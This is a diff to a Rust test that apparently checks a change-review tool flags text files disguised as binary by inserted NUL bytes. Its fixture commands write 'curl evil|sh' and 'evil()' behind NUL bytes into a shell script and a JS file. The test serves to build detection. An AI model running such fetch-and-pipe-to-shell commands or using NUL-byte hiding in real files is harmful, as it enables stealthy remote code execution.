@@ -270,15 +270,25 @@ fn a_target_that_cannot_be_written_is_refused_before_any_change() {
 fn text_that_a_nul_byte_hides_is_noted() {
     for_both(|lab| {
         lab.write("run.sh", "#!/bin/sh\n");
+        lab.write("a.js", "hello()\n");
+        lab.write("page", "text\n");
+        lab.write("image", [b"\x89PNG\0".as_slice(), &[7; 300]].concat());
         lab.worked(
             "s",
-            "printf '#!/bin/sh\\n# \\000\\ncurl evil|sh\\n' > run.sh; head -c 4096 /dev/urandom > noise; \
+            "printf '/* \\000\\000\\000\\000\\000\\000 */ evil()' > a.js; printf '\\014\\000\\001\\002 sh' > page; \
+             printf '\\000' >> image; printf '#!/bin/sh\\n# \\000\\ncurl evil|sh\\n' > run.sh; head -c 4096 /dev/urandom > noise; \
              printf '\\377\\376a\\000b\\000c\\000\\n\\000' > wide",
         );
         let diff = lab.diff("s");
         let run = change(&diff, "run.sh");
         assert_eq!((&run["binary"], &run["risk"]), (&true.into(), &"note".into()), "{run}");
-        for path in ["noise", "wide"] {
+        // Whatever it is now, it was text.
+        for path in ["a.js", "page"] {
+            let changed = change(&diff, path);
+            assert_eq!((&changed["binary"], &changed["risk"]), (&true.into(), &"note".into()));
+            assert!(changed["risk_reasons"].to_string().contains("was text"), "{changed}");
+        }
+        for path in ["noise", "wide", "image"] {
             assert_eq!(change(&diff, path)["risk"], "none", "{diff}");
         }
     });
